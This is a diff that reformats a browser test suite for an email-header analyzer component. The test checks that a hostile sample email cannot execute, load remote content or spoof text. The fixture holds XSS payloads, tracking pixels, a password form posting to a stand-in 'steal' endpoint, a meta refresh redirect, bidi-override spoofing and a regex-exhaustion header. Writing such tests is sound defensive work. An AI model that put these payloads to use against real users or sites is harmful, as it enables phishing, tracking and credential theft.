@@ -1,11 +1,14 @@
-// Mail that attacks its reader: nothing of it may become an element, run, be fetched, turn the text around, or stop the page.
+// Mail that attacks its reader: nothing of it may become an element, run, be fetched, turn the text around, or stop
+// the page.
 import { after, before, describe, test } from "node:test";
 import assert from "node:assert/strict";
 import { BROWSERS, complete, fileUrl, launch, openPage, paste, reports, text } from "./support.mjs";
 
-const MARKUP = '<script>globalThis.owned=1</script><img src=x onerror="globalThis.owned=2"><svg onload="globalThis.owned=3"></svg>';
+const MARKUP =
+  '<script>globalThis.owned=1</script><img src=x onerror="globalThis.owned=2"><svg onload="globalThis.owned=3"></svg>';
 const hostile = [
-  `Received: from ${MARKUP} (${MARKUP} [203.0.113.9]) by mx.example.org with ESMTP id "><script>globalThis.owned=4</script>; Mon, 3 Nov 2025 07:21:07 +0000`,
+  `Received: from ${MARKUP} (${MARKUP} [203.0.113.9]) by mx.example.org`,
+  '\twith ESMTP id "><script>globalThis.owned=4</script>; Mon, 3 Nov 2025 07:21:07 +0000',
   `From: "${MARKUP.replaceAll('"', "'")}" <x@example.com>`,
   "Reply-To: =?utf-8?B?4oCuZXhlLmdwag==?= <a@example.net>",
   `Subject: ${MARKUP} \u202Ereversed\u2066 \u0000 end`,
@@ -14,9 +17,12 @@ const hostile = [
   "MIME-Version: 1.0",
   "Content-Type: text/html; charset=utf-8",
   "",
-  `<a href="javascript:globalThis.owned=5">click</a> <a href="https://203.0.113.77/x">https://bank.example/</a> ${MARKUP}`,
-  '<img src="https://tracker.example/pixel.gif"><link rel="stylesheet" href="https://tracker.example/a.css"><iframe src="https://tracker.example/"></iframe>',
-  '<form action="https://tracker.example/steal"><input name=password></form><meta http-equiv="refresh" content="0;url=https://tracker.example/">',
+  '<a href="javascript:globalThis.owned=5">click</a> <a href="https://203.0.113.77/x">https://bank.example/</a>',
+  MARKUP,
+  '<img src="https://tracker.example/pixel.gif"><link rel="stylesheet" href="https://tracker.example/a.css">',
+  '<iframe src="https://tracker.example/"></iframe>',
+  '<meta http-equiv="refresh" content="0;url=https://tracker.example/">',
+  '<form action="https://tracker.example/steal"><input name=password></form>',
   "",
 ].join("\r\n");
 
@@ -34,7 +40,8 @@ for (const name of BROWSERS) {
       await paste(page, hostile);
       await complete(page);
       await page.evaluate(() => {
-        for (const item of document.querySelector("whence-analyzer").shadowRoot.querySelectorAll("details")) item.open = true;
+        for (const item of document.querySelector("whence-analyzer").shadowRoot.querySelectorAll("details"))
+          item.open = true;
       });
       await new Promise((resolve) => setTimeout(resolve, 300));
       assert.equal(await page.evaluate(() => globalThis.owned), undefined);
@@ -44,19 +51,36 @@ for (const name of BROWSERS) {
           names: [...new Set(all.map((element) => element.localName))],
           links: all.filter((element) => element.hasAttribute("href")).map((element) => new URL(element.href).host),
           sources: all.filter((element) => element.hasAttribute("src") || element.hasAttribute("srcset")).length,
-          handlers: all.filter((element) => element.getAttributeNames().some((attribute) => attribute.startsWith("on"))
-            || !/^(order: -?\d+;)?$/.test(element.getAttribute("style") ?? "")).length,
+          handlers: all.filter(
+            (element) =>
+              element.getAttributeNames().some((attribute) => attribute.startsWith("on")) ||
+              !/^(order: -?\d+;)?$/.test(element.getAttribute("style") ?? ""),
+          ).length,
         };
       });
       for (const forbidden of ["script", "img", "iframe", "object", "embed", "link", "meta", "b"]) {
         assert.ok(!tree.names.includes(forbidden), `<${forbidden}> came into the page`);
       }
       // The only links are to services that look a name up; none leads where the mail wants.
-      const services = ["whois.jprs.jp", "lookup.icann.org", "urlscan.io", "www.virustotal.com", "transparencyreport.google.com", "global.sitesafety.trendmicro.com"];
-      assert.deepEqual(tree.links.filter((host) => !services.includes(host)), []);
+      const services = [
+        "whois.jprs.jp",
+        "lookup.icann.org",
+        "urlscan.io",
+        "www.virustotal.com",
+        "transparencyreport.google.com",
+        "global.sitesafety.trendmicro.com",
+      ];
+      assert.deepEqual(
+        tree.links.filter((host) => !services.includes(host)),
+        [],
+      );
       assert.equal(tree.sources, 0);
       assert.equal(tree.handlers, 0);
-      assert.match(await text(page, ".source"), /<script>globalThis\.owned=4<\/script>/, "the source shows the attack as text");
+      assert.match(
+        await text(page, ".source"),
+        /<script>globalThis\.owned=4<\/script>/,
+        "the source shows the attack as text",
+      );
       assert.deepEqual(page.seen.requests, []);
       assert.deepEqual(await page.violations(), []);
       assert.deepEqual(page.seen.problems, []);
@@ -68,7 +92,9 @@ for (const name of BROWSERS) {
       await reports(page);
       await paste(page, hostile);
       await complete(page);
-      const shown = await page.evaluate(() => document.querySelector("whence-analyzer").shadowRoot.querySelector(".result").textContent);
+      const shown = await page.evaluate(
+        () => document.querySelector("whence-analyzer").shadowRoot.querySelector(".result").textContent,
+      );
       assert.doesNotMatch(shown, /[\u202a-\u202e\u2066-\u2069\u0000]/);
       assert.match(await text(page, ".source"), /RLO/);
       assert.match(await text(page, ".source"), /NUL/);
@@ -86,11 +112,20 @@ for (const name of BROWSERS) {
       });
       await complete(page);
       assert.ok(took < 5000, `took ${took} ms`);
-      const lines = () => page.evaluate(() => document.querySelector("whence-analyzer").shadowRoot.querySelectorAll(".source-line").length);
+      const lines = () =>
+        page.evaluate(
+          () => document.querySelector("whence-analyzer").shadowRoot.querySelectorAll(".source-line").length,
+        );
       const first = await lines();
       assert.ok(first < 2000, `${first} lines are drawn`);
-      await page.evaluate(() => document.querySelector("whence-analyzer").shadowRoot.querySelector(".source-gap button").click());
-      await page.waitForFunction((count) => document.querySelector("whence-analyzer").shadowRoot.querySelectorAll(".source-line").length > count, {}, first);
+      await page.evaluate(() =>
+        document.querySelector("whence-analyzer").shadowRoot.querySelector(".source-gap button").click(),
+      );
+      await page.waitForFunction(
+        (count) => document.querySelector("whence-analyzer").shadowRoot.querySelectorAll(".source-line").length > count,
+        {},
+        first,
+      );
       await page.close();
     });
 
@@ -99,7 +134,9 @@ for (const name of BROWSERS) {
       await reports(page);
       const took = await page.evaluate(async () => {
         const start = performance.now();
-        await document.querySelector("whence-analyzer").analyze(`Received: from ${"(".repeat(500_000)}${"a.".repeat(250_000)}\r\nFrom: a@example.com\r\n`);
+        await document
+          .querySelector("whence-analyzer")
+          .analyze(`Received: from ${"(".repeat(500_000)}${"a.".repeat(250_000)}\r\nFrom: a@example.com\r\n`);
         await new Promise((resolve) => requestAnimationFrame(() => setTimeout(resolve)));
         return performance.now() - start;
       });
